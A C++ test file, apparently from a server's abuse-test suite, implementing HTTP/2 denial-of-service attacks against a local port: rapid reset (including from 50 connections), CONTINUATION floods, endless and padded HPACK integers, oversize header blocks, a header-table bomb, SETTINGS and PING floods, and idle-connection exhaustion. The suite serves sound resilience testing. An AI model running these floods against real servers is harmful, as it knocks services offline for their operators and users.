#include "tests/abuse/attacks.h"

#include "tests/abuse/raw_http2.h"

#include <functional>
#include <memory>
#include <string>
#include <vector>

namespace dsa::testing {
namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kFrameBytesMax = 16 << 10;
constexpr char kPath[] = "/dsa.v1.AdminService/GetLoad";
constexpr char kEmptyMessage[] = {0, 0, 0, 0, 0};

// Connections one after another, each of which sends until it is ended.
class Campaign final {
 public:
  Campaign(std::int64_t port, const AttackSize& size)
      : port_(port), size_(size), limit_(Clock::now() + size.time_max) {}

  bool over() const { return result_.done >= size_.amount || Clock::now() >= limit_; }

  // `next` gives what to send, and adds what it stands for to its argument.
  AttackResult Run(
      const std::function<std::string(std::uint32_t index, std::int64_t& done)>& next) {
    while (!over()) {
      RawConnection connection(port_);
      ++result_.connections;
      connection.Send(ClientPreface());
      for (std::uint32_t index = 0; !over() && !connection.ended(); ++index) {
        std::int64_t done = 0;
        const std::string bytes = next(index, done);
        result_.done += connection.Send(bytes, 1000) ? done : 0;
      }
      Close(connection);
    }
    return result_;
  }

 private:
  void Close(RawConnection& connection) {
    if (!connection.ended()) {
      connection.ReadFor(100);
    }
    result_.bytes += connection.bytes_sent();
    result_.refused += connection.ended() ? 1 : 0;
    if (connection.go_away_code()) {
      result_.go_away_code = connection.go_away_code();
    }
  }

  const std::int64_t port_;
  const AttackSize size_;
  const Clock::time_point limit_;
  AttackResult result_;
};

std::uint32_t StreamId(std::uint32_t index) {
  return 2 * index + 1;
}

std::string OpenStream(std::uint32_t id) {
  return Frame(kHeadersFrame, kEndHeadersFlag, id, RequestHeaders(kPath));
}

// Many in one write, so that the sender is not what limits.
constexpr std::uint32_t kAtOnce = 50;

AttackResult RapidReset(std::int64_t port, const AttackSize& size) {
  const std::string cancel("\0\0\0\x08", 4);
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    std::string bytes;
    for (std::uint32_t i = index * kAtOnce; i < (index + 1) * kAtOnce; ++i) {
      bytes += OpenStream(StreamId(i)) + Frame(kResetFrame, 0, StreamId(i), cancel);
    }
    done = kAtOnce;
    return bytes;
  });
}

AttackResult RapidResetOfMessages(std::int64_t port, const AttackSize& size) {
  const std::string cancel("\0\0\0\x08", 4);
  const std::string_view message(kEmptyMessage, sizeof(kEmptyMessage));
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    std::string bytes;
    for (std::uint32_t i = index * kAtOnce; i < (index + 1) * kAtOnce; ++i) {
      bytes += OpenStream(StreamId(i)) + Frame(kDataFrame, kEndStreamFlag, StreamId(i), message) +
               Frame(kResetFrame, 0, StreamId(i), cancel);
    }
    done = kAtOnce;
    return bytes;
  });
}

AttackResult ContinuationFlood(std::int64_t port, const AttackSize& size) {
  const std::string header = LiteralHeader("x-flood", std::string(100, 'a'));
  std::string block;
  while (block.size() + header.size() <= kFrameBytesMax) {
    block += header;
  }
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    done = static_cast<std::int64_t>(block.size());
    return index == 0 ? Frame(kHeadersFrame, 0, 1, RequestHeaders(kPath) + block)
                      : Frame(kContinuationFrame, 0, 1, block);
  });
}

AttackResult UnacknowledgedStreams(std::int64_t port, const AttackSize& size) {
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    std::string bytes;
    for (std::uint32_t i = index * kAtOnce; i < (index + 1) * kAtOnce; ++i) {
      bytes += OpenStream(StreamId(i));
    }
    done = kAtOnce;
    return bytes;
  });
}

// An integer that never ends.
AttackResult PaddedIntegers(std::int64_t port, const AttackSize& size) {
  const std::string more(1024, '\x80');
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    done = static_cast<std::int64_t>(more.size());
    return index == 0 ? Frame(kHeadersFrame, 0, 1, RequestHeaders(kPath) + "\x7f" + more)
                      : Frame(kContinuationFrame, 0, 1, more);
  });
}

// Blocks that end, of a size that a careful server may let pass, with padding inside.
AttackResult PaddedBlocks(std::int64_t port, const AttackSize& size) {
  std::string padded = RequestHeaders(kPath);
  while (padded.size() < 8000) {
    // A value's length, 127 and a hundred zeros.
    padded += std::string("\0\1x\x7f", 4) + std::string(100, '\x80') + '\0' + std::string(127, 'v');
  }
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    done = static_cast<std::int64_t>(padded.size());
    return Frame(kHeadersFrame, kEndHeadersFlag | kEndStreamFlag, StreamId(index), padded);
  });
}

AttackResult OversizeBlocks(std::int64_t port, const AttackSize& size) {
  constexpr int kFrames = 64;  // a megabyte
  const std::string header = LiteralHeader("x-large", std::string(100, 'b'));
  std::string part;
  while (part.size() + header.size() <= kFrameBytesMax - 256) {
    part += header;
  }
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    std::string bytes = Frame(kHeadersFrame, 0, StreamId(index), RequestHeaders(kPath) + part);
    for (int i = 1; i < kFrames; ++i) {
      bytes +=
          Frame(kContinuationFrame, i + 1 == kFrames ? kEndHeadersFlag : 0, StreamId(index), part);
    }
    done = static_cast<std::int64_t>(bytes.size());
    return bytes;
  });
}

// One byte for each copy of a header of 4000 bytes that the table keeps.
AttackResult HeaderBomb(std::int64_t port, const AttackSize& size) {
  constexpr int kLongBytes = 3900;
  const std::string kept = std::string("\x40\x01x\x7f", 4) +
                           std::string{static_cast<char>(((kLongBytes - 127) & 0x7f) | 0x80),
                                       static_cast<char>((kLongBytes - 127) >> 7)} +
                           std::string(kLongBytes, 'c');
  const std::string copies(8000, '\xbe');  // the newest of the table
  return Campaign(port, size).Run([&](std::uint32_t index, std::int64_t& done) {
    done = static_cast<std::int64_t>(copies.size());
    return Frame(kHeadersFrame, kEndHeadersFlag | kEndStreamFlag, StreamId(index),
                 RequestHeaders(kPath) + (index == 0 ? kept : std::string()) + copies);
  });
}

AttackResult FloodOf(std::int64_t port, const AttackSize& size, const std::string& frame) {
  std::string bytes;
  for (std::uint32_t i = 0; i < kAtOnce; ++i) {
    bytes += frame;
  }
  return Campaign(port, size).Run([&](std::uint32_t /*index*/, std::int64_t& done) {
    done = kAtOnce;
    return bytes;
  });
}

AttackResult SettingsFlood(std::int64_t port, const AttackSize& size) {
  return FloodOf(port, size, Frame(kSettingsFrame, 0, 0, ""));
}
AttackResult PingFlood(std::int64_t port, const AttackSize& size) {
  return FloodOf(port, size, Frame(kPingFrame, 0, 0, "12345678"));
}

// As Campaign, from many connections at once.
AttackResult RunCrowd(std::int64_t port, const AttackSize& size,
                      const std::function<std::string(std::uint32_t index)>& next) {
  constexpr std::size_t kCrowd = 50;
  AttackResult result;
  const auto limit = Clock::now() + size.time_max;
  std::vector<std::unique_ptr<RawConnection>> crowd(kCrowd);
  std::vector<std::uint32_t> index(kCrowd);
  while (result.done < size.amount && Clock::now() < limit) {
    bool all_wait = true;
    for (std::size_t i = 0; i < kCrowd; ++i) {
      if (crowd[i] != nullptr && crowd[i]->ended()) {
        ++result.refused;
        result.bytes += crowd[i]->bytes_sent();
        result.go_away_code =
            crowd[i]->go_away_code() ? crowd[i]->go_away_code() : result.go_away_code;
        crowd[i].reset();
      }
      if (crowd[i] == nullptr) {
        crowd[i] = std::make_unique<RawConnection>(port);
        ++result.connections;
        index[i] = 0;
        crowd[i]->Offer(ClientPreface());
      }
      if (crowd[i]->Offer(crowd[i]->offers_wait() ? std::string() : next(index[i]++))) {
        result.done += kAtOnce;
        all_wait = false;
      }
    }
    if (all_wait) {
      crowd.front()->ReadFor(1);
    }
  }
  return result;
}

AttackResult RapidResetByMany(std::int64_t port, const AttackSize& size) {
  const std::string cancel("\0\0\0\x08", 4);
  return RunCrowd(port, size, [&](std::uint32_t index) {
    std::string bytes;
    for (std::uint32_t i = index * kAtOnce; i < (index + 1) * kAtOnce; ++i) {
      bytes += OpenStream(StreamId(i)) + Frame(kResetFrame, 0, StreamId(i), cancel);
    }
    return bytes;
  });
}

AttackResult OpenStreamsByMany(std::int64_t port, const AttackSize& size) {
  return RunCrowd(port, size, [&](std::uint32_t index) {
    std::string bytes;
    for (std::uint32_t i = index * kAtOnce; i < (index + 1) * kAtOnce; ++i) {
      bytes += OpenStream(StreamId(i));
    }
    return bytes;
  });
}

// Each leaves with a hundred streams open.
AttackResult ShortConnections(std::int64_t port, const AttackSize& size) {
  constexpr std::uint32_t kStreams = 100;
  AttackResult result;
  const auto limit = Clock::now() + size.time_max;
  std::string bytes = ClientPreface();
  for (std::uint32_t i = 0; i < kStreams; ++i) {
    bytes += OpenStream(StreamId(i));
  }
  while (result.done < size.amount && Clock::now() < limit) {
    RawConnection connection(port);
    result.done += connection.Send(bytes, 1000) ? kStreams : 0;
    result.bytes += connection.bytes_sent();
    ++result.connections;
    connection.ReadFor(2);
    result.refused += connection.ended() ? 1 : 0;
  }
  return result;
}

AttackResult IdleConnections(std::int64_t port, const AttackSize& size) {
  AttackResult result;
  const auto limit = Clock::now() + size.time_max;
  std::vector<std::unique_ptr<RawConnection>> connections;
  while (result.done < size.amount && Clock::now() < limit) {
    connections.push_back(std::make_unique<RawConnection>(port));
    ++result.connections;
    ++result.done;
    connections.back()->Send(ClientPreface() + Frame(kSettingsFrame, kAckFlag, 0, ""));
  }
  connections.front()->ReadFor(static_cast<int>(size.time_max.count() / 3));
  for (const auto& connection : connections) {
    connection->ReadFor(1);
    result.refused += connection->ended() ? 1 : 0;
    result.bytes += connection->bytes_sent();
  }
  return result;
}

}  // namespace

std::span<const Attack> Attacks() {
  static constexpr Attack kAttacks[] = {
      {"rapid reset", "streams", 54'300, 5'000, false, RapidReset},
      {"rapid reset of whole calls", "streams", 54'300, 5'000, false, RapidResetOfMessages},
      {"rapid reset by 50 connections", "streams", 10'000'000, 20'000, false, RapidResetByMany},
      {"CONTINUATION flood", "bytes", 400'000'000, 80'000'000, true, ContinuationFlood},
      {"streams without acknowledged SETTINGS", "streams", 20'000, 6'000, false,
       UnacknowledgedStreams},
      {"the same by 50 connections", "streams", 100'000, 6'000, false, OpenStreamsByMany},
      {"short connections of 100 streams", "streams", 10'000'000, 5'000, false, ShortConnections},
      {"an endless HPACK integer", "bytes", 20'000'000, 500'000, false, PaddedIntegers},
      {"padded HPACK integers", "bytes", 100'000'000, 4'000'000, false, PaddedBlocks},
      {"oversize header blocks", "bytes", 400'000'000, 40'000'000, true, OversizeBlocks},
      {"copies of a long header", "bytes", 50'000'000, 1'000'000, false, HeaderBomb},
      {"SETTINGS flood", "frames", 2'000'000, 50'000, false, SettingsFlood},
      {"PING flood", "frames", 2'000'000, 50'000, false, PingFlood},
      {"idle connections", "connections", 10'000, 1'500, false, IdleConnections},
  };
  return kAttacks;
}

}  // namespace dsa::testing
